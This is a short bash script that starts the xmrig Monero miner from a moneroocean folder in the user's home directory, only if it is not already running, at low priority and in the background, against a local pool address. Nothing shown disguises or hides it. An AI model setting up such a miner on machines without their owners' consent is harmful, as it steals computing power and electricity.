#!/bin/bash
# One miner is enough.
pidof xmrig >/dev/null || nice "$HOME/moneroocean/xmrig" --pool 127.0.77.250:4444 "$@" &
